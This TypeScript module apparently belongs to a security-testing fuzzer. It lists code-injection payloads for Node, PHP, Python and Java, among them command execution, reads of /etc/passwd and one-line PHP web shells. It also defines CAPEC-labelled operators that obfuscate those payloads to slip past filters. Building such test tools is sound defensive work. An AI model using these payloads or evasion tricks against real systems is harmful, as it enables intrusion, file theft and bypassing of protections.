import { commonEncodings, hexEscape } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  "require('child_process').execSync('id')",
  "require('fs').readFileSync('/etc/passwd')",
  "process.mainModule.require('child_process').exec('id')",
  "global.process.mainModule.constructor._load('child_process')",
  "x');process.exit(0);//",
  "this.constructor.constructor('return process')().exit()",
  "<?php system($_GET['k']); ?>",
  "<?php passthru('id'); ?>",
  "<?php eval(base64_decode($_POST['z'])); ?>",
  '${@print(md5(31337))}',
  "system('id');",
  "shell_exec('cat /etc/passwd');",
  "__import__('os').system('id')",
  "__import__('subprocess').check_output(['id'])",
  "eval(compile('import os','k','exec'))",
  "new java.lang.ProcessBuilder('id').start()",
  "@java.lang.Runtime@getRuntime().exec('id')",
  "assert('phpinfo()')",
];

const isPhp = /<\?php|\b(?:system|passthru|shell_exec|assert|print)\(/;
const isNode = /require\(|process\.|constructor\(/;

/** Names of PHP's functions and its tag have no case. */
const phpCase: Operator = syntax('php-case', 'CAPEC-66 mixed case', (payload, random) =>
  isPhp.test(payload) && !payload.includes('__import__')
    ? payload.replaceAll(
        /<\?php|\b(?:system|passthru|shell_exec|eval|base64_decode|assert|phpinfo|print|md5)(?=\()/g,
        (name) => [...name].map((letter) => (random.below(2) === 0 ? letter.toUpperCase() : letter)).join(''),
      )
    : null,
);

/** A blank or a line end before a bracket. */
const spacedBracket: Operator = syntax('spaced-bracket', 'CAPEC-242 alternative white space', (payload, random) =>
  payload.replaceAll(/(?<=[a-z_])\((?=['"$@[])/g, () => random.pick([' (', '(\n', '( ', '\t('])),
);

/** A comment before a bracket, in languages that have such comments. */
const commentedBracket: Operator = syntax('commented-bracket', 'CAPEC-242 comments', (payload, random) =>
  (isPhp.test(payload) || isNode.test(payload)) && !payload.includes('__import__')
    ? payload.replaceAll(/(?<=[a-z_])\((?=['"$])/g, () => `/*${random.word(3)}*/(`)
    : null,
);

/** Quotes of the other kind. */
const otherQuotes: Operator = syntax('other-quotes', 'CAPEC-242 quoting', (payload) => payload.replaceAll("'", '"'));

/** A template in the place of a string. */
const backticks: Operator = syntax('backticks', 'CAPEC-242 quoting', (payload) =>
  isNode.test(payload) && !payload.includes('__import__') && !payload.startsWith('x')
    ? payload.replaceAll("'", '`')
    : null,
);

/** Strings put together where they are used. */
const joinedString: Operator = syntax('joined-string', 'CAPEC-242 string concatenation', (payload, random) => {
  const join = isNode.test(payload) ? '+' : isPhp.test(payload) && !payload.includes('__import__') ? '.' : '+';
  return payload.replaceAll(/'([a-z_]{4,})'/g, (_all, text: string) => {
    const at = 1 + random.below(text.length - 1);
    return `'${text.slice(0, at)}'${join}'${text.slice(at)}'`;
  });
});

/** Members by their name in brackets. */
const indexedMember: Operator = syntax('indexed-member', 'CAPEC-242 computed members', (payload) =>
  isNode.test(payload)
    ? payload.replaceAll(/\.(mainModule|constructor|exec|execSync|readFileSync|exit)\b/g, "['$1']")
    : null,
);

/** Letters of a name as escapes, which script undoes. */
const escapedName: Operator = syntax('escaped-name', 'CAPEC-71 script escapes', (payload, random) =>
  isNode.test(payload) && !payload.includes('__import__')
    ? payload.replaceAll(/\b(?:require|process|constructor|mainModule)\b/g, (name) => {
        const at = random.below(name.length);
        return `${name.slice(0, at)}\\u00${name.charCodeAt(at).toString(16)}${name.slice(at + 1)}`;
      })
    : null,
);

/** A statement in front. */
const junkPrefix: Operator = syntax('junk-prefix', 'CAPEC-242 padding', (payload, random) =>
  /^[a-z_]/i.test(payload) && !payload.startsWith("x'")
    ? random.pick([
        `1;${payload}`,
        `${random.word(3)}=1;${payload}`,
        `'+${payload}+'`,
        `");${payload}//`,
        `1 + ${payload}`,
      ])
    : `${random.word(5)} ${payload}`,
);

/** Text behind that nobody runs. */
const junkSuffix: Operator = syntax('junk-suffix', 'CAPEC-242 padding', (payload, random) =>
  payload.endsWith('?>')
    ? `${payload}${random.word(5)}`
    : payload.includes('__import__')
      ? `${payload} #${random.word(4)}`
      : `${payload} //${random.word(4)}`,
);

/** Code injection: Node, PHP, Python, Java. */
export const code: EvasionClass = {
  id: 'code',
  payloads,
  operators: [
    phpCase,
    spacedBracket,
    commentedBracket,
    otherQuotes,
    backticks,
    joinedString,
    indexedMember,
    escapedName,
    junkPrefix,
    junkSuffix,
    ...commonEncodings,
    hexEscape,
  ],
};
